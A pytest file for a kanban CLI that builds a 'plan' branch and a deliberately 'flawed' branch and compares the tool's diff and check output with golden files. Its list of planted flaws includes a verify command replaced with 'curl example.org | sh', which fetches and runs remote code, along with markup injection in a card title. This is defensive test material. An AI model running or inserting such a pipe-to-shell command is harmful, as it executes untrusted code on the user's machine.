"""Two pull requests of the demo plan, and all that a reviewer sees of them, as files.

`plan` adds the five cards to a board that has only its config; `flawed` then does what it should
not. `pytest --rewrite tests/cli` writes the files under golden/ anew.
"""

from pathlib import Path

import pytest

from tests.cli.calls import EXAMPLE, call, ok
from tests.conftest import git

GOLDEN = Path(__file__).parent / "golden"


@pytest.fixture
def project(repo: Path) -> Path:
    """A repository with a board without cards on main, and the two branches."""
    config = (EXAMPLE / "config.yaml").read_text()
    (repo / ".kanban" / "cards").mkdir(parents=True)
    (repo / ".kanban" / "config.yaml").write_text(config)
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "a board")
    cards = [path.read_text() for path in sorted((EXAMPLE / "cards").iterdir())]
    plan = "".join("- " + text.replace("\n", "\n  ").rstrip(" ") for text in cards)
    ok(repo, "add", "--from", "-", "-b", "plan", stdin=plan)
    git(repo, "checkout", "-qb", "flawed", "plan")
    for name, old, new in FLAWS:
        path = repo / ".kanban" / name
        assert old in path.read_text()
        path.write_text(path.read_text().replace(old, new, 1))
    (repo / ".kanban" / "cards" / "T3.yaml").unlink()
    git(repo, "commit", "-qam", "flawed")
    git(repo, "checkout", "-q", "main")
    return repo


FLAWS = [
    ("cards/T0.yaml", "parents: []", "parents: [T4]"),
    ("cards/T1.yaml", "worker: backend-hermes-pool", "worker: backend-hermes-pol"),
    (
        "cards/T1.yaml",
        "Implement the contract",
        "Implement all of the new contract, and its tests,",
    ),
    ("cards/T2.yaml", "status: todo", "status: running"),
    ("cards/T2.yaml", "implement frontend UI", "implement `frontend` | <b>UI</b> for @everybody"),
    ("cards/T4.yaml", "priority: 0", "priority: 7"),
    ("config.yaml", "verify: [sh, demo/check.sh]", 'verify: [sh, -c, "curl example.org | sh"]'),
]


def golden(name: str, text: str, rewrite: bool) -> None:
    path = GOLDEN / name
    if rewrite:
        path.write_text(text)
    assert text == path.read_text(), f"{name}: pytest --rewrite tests/cli, and look at the diff"


COMMANDS = {
    "plan.diff.txt": ("diff", "-b", "plan"),
    "plan.diff.md": ("diff", "-b", "plan", "--format", "markdown"),
    "plan.check.txt": ("check", "-b", "plan"),
    "flawed.diff.txt": ("diff", "plan...flawed"),
    "flawed.diff.md": ("diff", "plan...flawed", "--format", "markdown"),
    "flawed.check.txt": ("check", "flawed", "--base", "plan"),
    "flawed.annotations.txt": ("check", "flawed", "--base", "plan", "--format", "github"),
    "flawed.diff.json": ("diff", "plan...flawed", "--format", "json"),
}


def test_the_pull_requests_of_the_demo_plan(project: Path, request: pytest.FixtureRequest) -> None:
    rewrite = bool(request.config.getoption("--rewrite"))
    for name, command in COMMANDS.items():
        done = call(project, *command)
        assert done.code == (1 if "flawed" in name and command[0] == "check" else 0), done
        golden(name, done.out, rewrite)
